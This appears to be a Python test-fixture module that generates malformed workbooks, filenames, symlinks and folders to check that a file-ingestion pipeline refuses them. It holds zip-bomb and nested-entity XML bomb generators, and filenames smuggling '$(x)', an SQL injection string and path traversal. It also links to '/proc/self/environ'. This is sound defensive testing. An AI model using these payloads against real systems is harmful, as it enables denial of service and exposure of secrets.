# --- workbooks that unpack to more than they weigh ------------------------------------------------------------------

SHEETS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"
FIRST_LINE = '<?xml version="1.0" encoding="UTF-8"?>'

PARTS = {
    "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
    f'ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="{TYPE}.sheet.main+xml"/>'
    f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{TYPE}.worksheet+xml"/></Types>',
    "_rels/.rels": f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId1" '
    f'Type="{OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    "xl/workbook.xml": f'<workbook xmlns="{SHEETS}" xmlns:r="{OFFICE}"><sheets>'
    '<sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId1" '
    f'Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
}


def sheet_row(number: int, cells: Iterable[str]) -> str:
    texts = "".join(f'<c t="inlineStr"><is><t>{cell}</t></is></c>' for cell in cells)
    return f'<row r="{number}">{texts}</row>'


def put_workbook(
    writer: Writer,
    body: Iterator[str],
    before: str = "",
    after: str = "",
    parts: dict[str, Iterable[str]] | None = None,
) -> Path:
    """A workbook written part by part, so that what it unpacks to never lies in memory."""
    path = writer.put(b"", "mangled.xlsx")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as book:
        for name, content in PARTS.items():
            if not parts or name not in parts:
                book.writestr(name, FIRST_LINE + content)
        for name, pieces in (parts or {}).items():
            with book.open(name, "w") as part:
                for piece in pieces:
                    part.write(piece.encode())
        with book.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(f'{FIRST_LINE}<worksheet xmlns="{SHEETS}">{before}<sheetData>'.encode())
            for piece in body:
                sheet.write(piece.encode())
            sheet.write(f"</sheetData>{after}</worksheet>".encode())
    return path


def head(writer: Writer) -> str:
    return sheet_row(1, writer.columns) + sheet_row(2, [writer.token(0), *["x"] * (len(writer.columns) - 1)])


def one_row(writer: Writer, path: Path, *outcomes: str) -> Mangled:
    return every_row(writer, path, [{writer.columns[0]: writer.token(0)}], *outcomes)


@heavy
def bomb_of_blanks(writer: Writer) -> Mangled:
    def body() -> Iterator[str]:
        yield head(writer)
        for _ in range(200):
            yield " " * (1 << 20)

    return refused(put_workbook(writer, body()))


@heavy
def bomb_of_one_attribute(writer: Writer) -> Mangled:
    def body() -> Iterator[str]:
        yield head(writer) + '<row r="3" spans="'
        for _ in range(300):
            yield "a" * (1 << 20)
        yield '"></row>'

    return refused(put_workbook(writer, body()))


@heavy
def bomb_of_rows(writer: Writer) -> Mangled:
    """Tens of millions of rows of a few bytes each."""

    def body() -> Iterator[str]:
        yield head(writer)
        for _ in range(200):
            yield "<row><c/></row>" * 70_000

    return refused(put_workbook(writer, body()))


@heavy
def bomb_of_shared_texts(writer: Writer) -> Mangled:
    def texts() -> Iterator[str]:
        yield f'{FIRST_LINE}<sst xmlns="{SHEETS}">'
        for _ in range(200):
            yield ("<si><t>" + "b" * 1000 + "</t></si>") * 1000
        yield "</sst>"

    return refused(put_workbook(writer, iter([head(writer)]), parts={"xl/sharedStrings.xml": texts()}))


@heavy
def bomb_in_the_list_of_sheets(writer: Writer) -> Mangled:
    def sheets() -> Iterator[str]:
        yield f'{FIRST_LINE}<workbook xmlns="{SHEETS}" xmlns:r="{OFFICE}"><sheets>'
        for _ in range(200):
            yield '<sheet name="S" sheetId="1" r:id="rId1"/>' * 25_000
        yield "</sheets></workbook>"

    return refused(put_workbook(writer, iter([head(writer)]), parts={"xl/workbook.xml": sheets()}))


@kind
def thousands_of_sheets(writer: Writer) -> Mangled:
    sheets = "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="rId1"/>' for n in range(1, 5000))
    content = f'{FIRST_LINE}<workbook xmlns="{SHEETS}" xmlns:r="{OFFICE}"><sheets>{sheets}</sheets></workbook>'
    path = put_workbook(writer, iter([head(writer)]), parts={"xl/workbook.xml": [content]})
    return one_row(writer, path, LANDED, REFUSED)


@kind
def entities_within_entities(writer: Writer) -> Mangled:
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
    sheet = (
        f'{FIRST_LINE}<!DOCTYPE worksheet [<!ENTITY e0 "aaaaaaaaaa">{entities}]><worksheet xmlns="{SHEETS}"><sheetData>'
        f"{sheet_row(1, writer.columns)}{sheet_row(2, ['&e11;'] * len(writer.columns))}</sheetData></worksheet>"
    )
    part = writer.random.choice(("xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/sharedStrings.xml"))
    path = writer.put(b"", "mangled.xlsx")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as book:
        for name, content in {**PARTS, "xl/worksheets/sheet1.xml": ""}.items():
            book.writestr(name, sheet if name == part else FIRST_LINE + content)
        if part not in {**PARTS, "xl/worksheets/sheet1.xml": ""}:
            book.writestr(part, sheet)
    return refused(path)


@kind
def absurd_area(writer: Writer) -> Mangled:
    """The sheet says that it fills millions of rows and thousands of columns, and holds two rows."""
    area = writer.random.choice(("A1:XFD1048576", "A1:ZZZZ99999999", "A1:A1048576", "A1:A0", "B2:B2", "A9:A1"))
    return one_row(writer, put_workbook(writer, iter([head(writer)]), f'<dimension ref="{area}"/>'))


@kind
def cells_beyond_the_sheet(writer: Writer) -> Mangled:
    place = writer.random.choice(
        (("99999999999", "ZZZZZZ99999999999"), ("3", "XFE3"), ("1048577", "A1048577"), ("0", "A0"))
    )
    far = f'<row r="{place[0]}"><c r="{place[1]}" t="inlineStr"><is><t>z</t></is></c></row>'
    return Mangled((LANDED, REFUSED), put_workbook(writer, iter([head(writer), far])))


@kind
def far_cell(writer: Writer) -> Mangled:
    far = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>z</t></is></c></row>'
    return Mangled((LANDED, REFUSED), put_workbook(writer, iter([head(writer), far])))


@kind
def size_that_lies(writer: Writer) -> Mangled:
    """The directory of the archive says that the sheet unpacks to a few bytes."""

    def body() -> Iterator[str]:
        yield head(writer)
        yield " " * (1 << 22)

    path = put_workbook(writer, body())
    content = bytearray(path.read_bytes())
    place = content.rindex(b"PK\x01\x02", 0, content.rindex(b"xl/worksheets/sheet1.xml"))
    content[place + 24 : place + 28] = (500).to_bytes(4, "little")
    path.write_bytes(bytes(content))
    return refused(path)


@kind
def locked_workbook(writer: Writer) -> Mangled:
    """The members are marked as encrypted."""
    content = bytearray(put_workbook(writer, iter([head(writer)])).read_bytes())
    for mark, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        place = content.find(mark)
        while place >= 0:
            content[place + offset] |= 1
            place = content.find(mark, place + 4)
    return refused(writer.put(bytes(content), "mangled.xlsx"))


@kind
def unknown_packing(writer: Writer) -> Mangled:
    content = bytearray(put_workbook(writer, iter([head(writer)])).read_bytes())
    method = writer.random.choice((1, 6, 9, 12, 14, 93, 99))
    for mark, offset in ((b"PK\x01\x02", 10), (b"PK\x03\x04", 8)):
        place = content.find(mark)
        while place >= 0:
            content[place + offset] = method
            place = content.find(mark, place + 4)
    return refused(writer.put(bytes(content), "mangled.xlsx"))


# --- names, links, folders ------------------------------------------------------------------------------------------

ODD_NAMES = (
    *(
        "a b.csv",
        "it's.csv",
        'q"q.csv',
        "a\\b.csv",
        "a\\..\\..\\x.csv",
        "a\nb.csv",
        "a\rb.csv",
        "\x1b[31mred.csv",
        "%2e%2e.csv",
    ),
    *("a[1].csv", "a*.csv", "a?.csv", "[!x].csv", "{a,b}.csv", "**.csv", "a[.csv", "a].csv", "b\\[1].csv", "$(x).csv"),
    *("a.csv.csv", "A.CSV", "a.Csv", "a .csv", " a.csv", "a;b.csv", "c0=5.csv", "extract_date=2020-01-01.csv", "~.csv"),
    *(
        "一月 数据.csv",
        "e\u0301.csv",
        "é.csv",
        "😀.csv",
        "\u202egpj.csv",
        "x" * 240 + ".csv",
        "库" * 80 + ".csv",
        "-rf.csv",
    ),
    *(
        "con.csv",
        "a.parquet.csv",
        "csv.csv",
        "'; drop table x; --.csv",
        "{{ x }}.csv",
        "%s.csv",
        "\\.csv",
    ),
)


@kind
def odd_names(writer: Writer) -> Mangled:
    rows = writer.rows()
    return exactly(writer, writer.put(writer.text(rows), writer.random.choice(ODD_NAMES)), rows)


@kind
def odd_names_of_unsound_files(writer: Writer) -> Mangled:
    path = writer.put("x\n1\n", writer.random.choice(ODD_NAMES))
    return refused(path)


@kind
def names_that_match_others(writer: Writer) -> Mangled:
    """A name with wildcards beside files that it would match."""
    rows = writer.rows()
    name = writer.random.choice(("a[1].csv", "a?.csv", "a*.csv", "[a]1.csv"))
    writer.put(writer.text(writer.rows(2, lambda: "other"), header=writer.columns), "a1.csv")
    mangled = exactly(writer, writer.put(writer.text(rows), name), rows)
    mangled.files = 2
    return mangled


@kind
def names_of_other_formats_that_match_others(writer: Writer) -> Mangled:
    suffix = writer.random.choice(("parquet", "xlsx"))
    rows = plain_rows(writer)
    written = parquet_bytes if suffix == "parquet" else workbook_bytes
    writer.put(written(writer, plain_rows(writer)[:1]), f"a1.{suffix}")
    name = writer.random.choice(("a[1]", "a?", "a*", "a'1", "a b"))
    mangled = exactly(writer, writer.put(written(writer, rows), f"{name}.{suffix}"), rows)
    mangled.files = 2
    return mangled


@kind
def name_that_is_no_text(writer: Writer) -> Mangled:
    writer.folder.mkdir(parents=True, exist_ok=True)
    name = os.fsdecode(writer.random.choice((b"b\xffd.csv", "库存.csv".encode("gb18030"), b"\xed\xa0\x80.csv")))
    return refused(writer.put(writer.text(writer.rows()), name))


@kind
def names_not_read(writer: Writer) -> Mangled:
    """Names that are not final (ruling L11) are passed over in silence, others of no known format are told."""
    name, told = writer.random.choice(
        (
            *(
                (name, False)
                for name in (".a.csv", "_a.csv", "a.csv.part", "a.csv.tmp", "A.CSV.PART", ".csv", "._a.csv")
            ),
            *(
                (name, True)
                for name in ("a.txt", "a.csv~", "a.csv.bak", "a.xls", "a.xlsm", "a.json", "csv", "a.csv ", "a.CSV\n")
            ),
        )
    )
    path = writer.put(writer.text(writer.rows()), name)
    return Mangled((NOT_READ,), path, told=path.name.strip() if told else "")


@kind
def folder_with_the_name_of_a_file(writer: Writer) -> Mangled:
    path = writer.folder / writer.random.choice(("x.csv", "x.parquet", "x.xlsx"))
    path.mkdir(parents=True)
    (path / "inner.csv").write_text(writer.text(writer.rows()), encoding="utf-8")
    return Mangled((NOT_READ,), path, told=path.name)


@kind
def file_with_the_name_of_a_folder(writer: Writer) -> Mangled:
    path = writer.random.choice(
        (writer.folder, writer.folder.with_name(f"extract_date={DAY}.csv"), writer.landing / "mangled.csv")
    )
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("x", encoding="utf-8")
    return Mangled((NOT_READ,), path, told=path.name)


@kind
def odd_extract_dates(writer: Writer) -> Mangled:
    odd = (
        *("2026-02-30", "2026-1-5", "20260105", "２０２６-01-05", "2026-01-05 ", "", "today", "2026-01-05T00:00"),
        *("-2026-01-05", "2026-13-01", "0000-00-00", "10000-01-01", "2026-01-05\n", "NULL", "2026-W01-1"),
    )
    folder = writer.folder.with_name(f"extract_date={writer.random.choice(odd)}")
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "mangled.csv").write_text(writer.text(writer.rows()), encoding="utf-8")
    return Mangled((NOT_READ,), folder, told=folder.name.strip())


@kind
def distant_extract_dates(writer: Writer) -> Mangled:
    rows = writer.rows()
    folder = writer.folder.with_name(f"extract_date={writer.random.choice(('0001-01-01', '1969-12-31', '2024-02-29'))}")
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "mangled.csv"
    path.write_text(writer.text(rows), encoding="utf-8", newline="")
    return exactly(writer, path, rows)


@kind
def folders_of_no_table(writer: Writer) -> Mangled:
    system, table = writer.table.system, writer.table.name
    parts = writer.random.choice(
        (
            (system.upper(), table),
            (system, table.upper()),
            (system, f"{table} "),
            (system, "x"),
            ("x", table),
            (f"{system}\n", table),
        )
    )
    folder = writer.landing / parts[0] / parts[1] / f"extract_date={DAY}"
    folder.mkdir(parents=True)
    (folder / "mangled.csv").write_text(writer.text(writer.rows()), encoding="utf-8")
    odd = parts[0] if parts[0] != system else parts[1]
    return Mangled((NOT_READ,), writer.landing / parts[0] / parts[1], told=odd.strip())


@kind
def link_to_a_file_that_lands(writer: Writer) -> Mangled:
    rows = writer.rows()
    target = writer.put(writer.text(rows), "target.csv")
    path = target.with_name("mangled.csv")
    path.symlink_to(target.name if writer.random.random() < 0.5 else target)
    mangled = exactly(writer, path, rows)
    mangled.files = 2
    return mangled


@kind
def link_to_nowhere(writer: Writer) -> Mangled:
    writer.folder.mkdir(parents=True, exist_ok=True)
    path = writer.folder / "mangled.csv"
    path.symlink_to(writer.random.choice(("nowhere.csv", "mangled.csv", "../gone/x.csv")))
    return refused(path)


@kind
def link_that_leads_outside(writer: Writer) -> Mangled:
    writer.folder.mkdir(parents=True, exist_ok=True)
    path = writer.folder / "mangled.csv"
    path.symlink_to(writer.random.choice(("/etc/hostname", "../../../../outside.csv", "/", "/proc/self/environ")))
    return Mangled((NOT_READ,), path, told=path.name)


@kind
def folders_that_loop(writer: Writer) -> Mangled:
    writer.folder.mkdir(parents=True, exist_ok=True)
    path = writer.random.choice((writer.folder / "loop", writer.folder.with_name("loop"), writer.folder / "x.csv"))
    path.symlink_to(writer.landing, target_is_directory=True)
    return Mangled((NOT_READ,), path, told=path.name)


@kind
def pipe(writer: Writer) -> Mangled:
    """A named pipe never ends: whoever opens it waits for ever."""
    writer.folder.mkdir(parents=True, exist_ok=True)
    path = writer.folder / writer.random.choice(("mangled.csv", "mangled.parquet", "mangled.xlsx"))
    os.mkfifo(path)
    return Mangled((NOT_READ,), path, told=path.name)
